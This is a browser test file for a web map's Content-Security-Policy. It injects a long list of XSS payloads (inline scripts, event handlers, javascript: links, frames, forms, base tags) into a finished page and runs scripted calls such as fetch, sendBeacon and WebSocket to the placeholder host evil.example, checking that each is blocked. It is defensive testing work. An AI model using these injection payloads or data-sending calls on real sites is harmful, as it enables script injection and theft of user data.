# ruff: noqa: E501 - an attack a line reads best as a line
"""The page's Content-Security-Policy in a real browser: markup that slips through does not run, and asks for nothing.

Each attack is written into a copy of a finished page, as somebody could who had found a way past the escaping.
"""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser

import pytest

from geostrike.webmap import draw_map, page
from geostrike.webmap.csp import content_security_policy

from .pages import Watched, watched
from .reports import make_layers, make_spec

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"

LISTEN = """
window.__stopped = [];
document.addEventListener("securitypolicyviolation", event => window.__stopped.push([event.effectiveDirective, event.disposition]));
"""


@dataclass(frozen=True)
class Attack:
    """What is written into the page, what is then done, and which directive must say no."""

    name: str
    markup: str
    stopped_by: str
    act: str = ""


RUN = "window.__pwned=1"
MARKUP = (
    Attack("inline script", f"<script>{RUN}</script>", "script-src-elem"),
    Attack("inline module", f"<script type=module>{RUN}</script>", "script-src-elem"),
    Attack("script with a nonce", f"<script nonce=x>{RUN}</script>", "script-src-elem"),
    Attack("script in SVG", f"<svg><script>{RUN}</script></svg>", "script-src-elem"),
    Attack("onclick", f"<button id=bad onclick='{RUN}'>x</button>", "script-src-attr", "click"),
    Attack("onerror", f"<img src=data:, onerror='{RUN}'>", "script-src-attr"),
    Attack("onload in SVG", f"<svg onload='{RUN}'></svg>", "script-src-attr"),
    Attack("ontoggle", f"<details open ontoggle='{RUN}'>x</details>", "script-src-attr"),
    Attack("onfocus", f"<input id=bad onfocus='{RUN}'>", "script-src-attr", "focus"),
    Attack("onbegin", f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s /></svg>", "script-src-attr"),
    Attack("javascript: link", f"<a id=bad href='javascript:{RUN}'>x</a>", "script-src-elem", "click"),
    Attack("javascript: in SVG", f"<svg><a id=bad href='javascript:{RUN}'><text y=20>x</text></a></svg>", "script-src-elem", "click"),
    Attack("javascript: form", f"<form action='javascript:{RUN}'><button id=bad>x</button></form>", "form-action", "click"),
    Attack("javascript: frame", f"<iframe src='javascript:parent.{RUN}'></iframe>", "script-src-elem"),
    Attack("external script", f"<script src={EVIL}/x.js></script>", "script-src-elem"),
    Attack("script from data:", f"<script src='data:text/javascript,{RUN}'></script>", "script-src-elem"),
    Attack("script beside the page", "<script src=x.js></script>", "script-src-elem"),
    Attack("external style", f"<link rel=stylesheet href={EVIL}/x.css>", "style-src-elem"),
    Attack("style from data:", "<link rel=stylesheet href='data:text/css,body{--pwned:1}'>", "style-src-elem"),
    Attack("style element", "<style>body{--pwned:1}</style>", "style-src-elem"),
    Attack("imported style", f"<style>@import '{EVIL}/x.css';</style>", "style-src-elem"),
    Attack("style attribute", f"<p style='background:url({EVIL}/x.png)'>x</p>", "style-src-attr"),
    Attack("external image", f"<img src={EVIL}/x.png>", "img-src"),
    Attack("image beside the page", "<img src=x.png>", "img-src"),
    Attack("image set", f"<img srcset='{EVIL}/x.png 1x'>", "img-src"),
    Attack("image in SVG", f"<svg><image href={EVIL}/x.png /></svg>", "img-src"),
    Attack("icon", f"<link rel=icon href={EVIL}/x.ico>", ""),
    Attack("poster", f"<video poster={EVIL}/x.png></video>", "img-src"),
    Attack("video", f"<video src={EVIL}/x.mp4></video>", "media-src"),
    Attack("frame", f"<iframe src={EVIL}/></iframe>", "frame-src"),
    Attack("frame from data:", f"<iframe src='data:text/html,<script>parent.{RUN}</script>'></iframe>", "frame-src"),
    Attack("frame with a document", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", ""),
    Attack("object", f"<object data={EVIL}/x.swf></object>", "object-src"),
    Attack("object from data:", f"<object data='data:text/html,<script>{RUN}</script>'></object>", "object-src"),
    Attack("embed", f"<embed src={EVIL}/x.swf>", "object-src"),
    Attack("form", f"<form action={EVIL}/><button id=bad>x</button></form>", "form-action", "click"),
    Attack("formaction", f"<form><button id=bad formaction={EVIL}/>x</button></form>", "form-action", "click"),
    Attack("ping", f"<a id=bad href='#' ping={EVIL}/>x</a>", "connect-src", "click"),
    Attack("base", f"<base href={EVIL}/>", "base-uri"),
    Attack("preload", f"<link rel=preload as=script href={EVIL}/x.js>", "script-src-elem"),
    Attack("preload of a module", f"<link rel=modulepreload href={EVIL}/x.js>", "script-src-elem"),
    Attack("manifest", f"<link rel=manifest href={EVIL}/x.json>", ""),
    Attack(
        "looser policy",
        f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>{RUN}</script>",
        "script-src-elem",
    ),
)  # fmt: skip

# What a script could do that had got in: run from a timer, so that the browser's own leave for its tools does not count.
SCRIPTED = {
    "eval": ("script-src", f"eval('{RUN}')"),
    "Function": ("script-src", f"new Function('{RUN}')()"),
    "timer of words": ("script-src", f"setTimeout('{RUN}')"),
    "import": ("script-src-elem", f"import('data:text/javascript,{RUN}').catch(() => {{}})"),
    "made script": ("script-src-elem", f"document.body.append(Object.assign(document.createElement('script'), {{text: '{RUN}'}}))"),
    "made markup": ("script-src-attr", f"document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"{RUN}\">')"),
    "fetch": ("connect-src", f"fetch('{EVIL}/').catch(() => {{}})"),
    "request": ("connect-src", f"const r = new XMLHttpRequest(); r.open('GET', '{EVIL}/'); r.send()"),
    "socket": ("connect-src", "new WebSocket('wss://evil.example/')"),
    "event source": ("connect-src", f"new EventSource('{EVIL}/')"),
    "beacon": ("connect-src", f"navigator.sendBeacon('{EVIL}/', 'x')"),
    "worker": ("worker-src", f"new Worker(URL.createObjectURL(new Blob(['{RUN}'])))"),
    "shared worker": ("worker-src", "new SharedWorker('data:text/javascript,1')"),
    "font": ("font-src", f"new FontFace('x', 'url({EVIL}/x.woff)').load().catch(() => {{}})"),
    "image": ("img-src", f"new Image().src = '{EVIL}/x.png'"),
    "image from blob:": ("img-src", "new Image().src = URL.createObjectURL(new Blob(['x']))"),
    "sound": ("media-src", f"new Audio('{EVIL}/x.mp3').load()"),
    "file beside the page": ("connect-src", "fetch('secrets.txt').catch(() => {})"),
}  # fmt: skip


@pytest.fixture(scope="module")
def finished() -> str:
    return page(draw_map({}, make_spec()))


def only_refused(opened: Watched) -> None:
    """Say that nothing reached the network, and that whatever was asked for was refused by the policy."""
    assert opened.reached == []
    assert {opened.failed.get(url) for url in opened.requests} <= {"csp"}


def stopped(opened: Watched) -> list[str]:
    assert opened.page.evaluate("__stopped.every(([, disposition]) => disposition === 'enforce')")
    return opened.page.evaluate("__stopped.map(([directive]) => directive)")


@pytest.mark.parametrize("attack", MARKUP, ids=lambda attack: attack.name)
def test_markup_that_slipped_through_does_nothing(browser, tmp_path, finished, attack) -> None:
    path = tmp_path / "map.html"
    assert finished.count("</body>") == 1
    path.write_text(finished.replace("</body>", f"{attack.markup}</body>"), encoding="utf-8", newline="")
    (tmp_path / "x.js").write_text(RUN)
    with watched(browser, path, init=LISTEN) as opened:
        if attack.act:
            opened.page.locator("#bad").evaluate(
                f"node => node.{attack.act}()"
                if attack.act == "focus"
                else "node => node.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))"
            )
        if attack.stopped_by:
            opened.page.wait_for_function(
                "name => __stopped.some(([directive]) => directive === name)", arg=attack.stopped_by
            )
        else:
            opened.page.wait_for_load_state("networkidle")
        said = stopped(opened)
        assert (set(said) - {"img-src"} if attack.stopped_by != "img-src" else set(said)) <= {attack.stopped_by}
        assert opened.page.evaluate("window.__pwned ?? null") is None
        only_refused(opened)
        assert opened.dialogs == opened.opened == []
        assert opened.page.url.split("#")[0] == opened.address
        assert opened.page.evaluate("document.baseURI").split("#")[0] == opened.address
        assert opened.page.evaluate("getComputedStyle(document.body).getPropertyValue('--pwned')") == ""
        assert opened.page.evaluate("typeof geostrike.choose") == "function"


@pytest.mark.parametrize("name", SCRIPTED)
def test_a_script_that_slipped_through_reaches_nothing(browser, tmp_path, finished, name) -> None:
    directive, act = SCRIPTED[name]
    path = tmp_path / "map.html"
    path.write_text(finished, encoding="utf-8", newline="")
    (tmp_path / "secrets.txt").write_text("x")
    with watched(browser, path, init=LISTEN) as opened:
        opened.page.evaluate(
            "act => { setTimeout(new Function(`try { ${act} } catch (error) { window.__error = String(error); }`)); }",
            act,
        )
        opened.page.wait_for_function("name => __stopped.some(([directive]) => directive === name)", arg=directive)
        assert opened.page.evaluate("window.__pwned ?? null") is None
        only_refused(opened)
        if directive == "script-src" and name != "timer of words":
            assert "EvalError" in opened.page.evaluate("__error")


def test_a_page_that_nobody_has_touched_breaks_no_rule_of_its_own(browser, tmp_path) -> None:
    path = tmp_path / "map.html"
    path.write_text(page(draw_map(make_layers(), make_spec())), encoding="utf-8", newline="")
    with watched(browser, path, init=LISTEN, accept_downloads=True) as opened:
        for number in range(opened.page.locator("#sheet-events .row").count()):
            opened.page.locator("#sheet-events .row").nth(number).click()
            opened.page.keyboard.press("Escape")
        for tab in ("elsewhere", "sources", "events"):
            opened.page.locator(f"#tab-{tab}").click()
        opened.page.get_by_role("button", name="Filters").click()
        opened.page.get_by_role("button", name="Save and share").click()
        for name in ("Events as CSV", "Events as GeoJSON", "Picture of the map (PNG)"):
            with opened.page.expect_download():
                opened.page.get_by_role("button", name=name).click()
        opened.page.evaluate("dispatchEvent(new Event('beforeprint'))")
        assert stopped(opened) == []
        opened.clean()


class Parts(HTMLParser):
    """The elements of a page in order: (name, attributes, text)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=False)
        self.found: list[tuple[str, dict[str, str | None], list[str]]] = []
        self.inside: list[str] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = []
        self.found.append((tag, dict(attrs), self.inside))

    def handle_endtag(self, tag: str) -> None:
        self.inside = None

    def handle_data(self, data: str) -> None:
        if self.inside is not None:
            self.inside.append(data)

    def texts(self, name: str) -> list[tuple[dict[str, str | None], str]]:
        return [(attributes, "".join(text)) for tag, attributes, text in self.found if tag == name]


def hash_of(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


@pytest.mark.parametrize("layers", [{}, make_layers()], ids=["nothing", "events"])
def test_the_policy_is_what_csp_says_and_every_script_has_its_hash(layers) -> None:
    html = page(draw_map(layers, make_spec()))
    parts = Parts(html)
    policies = [attributes["content"] for attributes, _ in parts.texts("meta") if attributes.get("http-equiv")]
    assert len(policies) == 1
    run = [text for attributes, text in parts.texts("script") if "type" not in attributes]
    data = [attributes for attributes, _ in parts.texts("script") if "type" in attributes]
    styles = [text for _, text in parts.texts("style")]
    assert unescape(policies[0]) == content_security_policy(run, styles)
    rules = dict(rule.split(" ", 1) for rule in unescape(policies[0]).split("; "))
    assert rules.pop("script-src").split() == list(dict.fromkeys(map(hash_of, run)))
    assert rules.pop("style-src").split() == list(dict.fromkeys(map(hash_of, styles)))
    assert rules == {
        "default-src": "'none'",
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert len(run) > 50
    assert {attributes["type"] for attributes in data} <= {"application/octet-stream"}
    assert all("src" not in attributes for attributes, _ in parts.texts("script"))


def test_the_policy_stands_before_everything_it_is_to_stop(finished) -> None:
    names = [tag for tag, _, _ in Parts(finished).found]
    policy = names.index("meta", names.index("meta") + 1)
    assert Parts(finished).found[policy][1]["http-equiv"] == "Content-Security-Policy"
    assert names[:policy] == ["html", "head", "meta"]
    assert finished.index("charset") < 1024
    assert re.search(r"<(script|style|link|body)\b", finished).start() > finished.index("Content-Security-Policy")


def test_no_script_of_ours_makes_code_of_words() -> None:
    from geostrike.webmap.bundle import scripts

    for name, text in scripts():
        code = re.sub(r"//.*", "", text)
        found = re.findall(
            r"\beval\(|new Function|\.innerHTML|outerHTML|insertAdjacentHTML|document\.write|\.srcdoc|javascript:", code
        )
        assert found == [], name
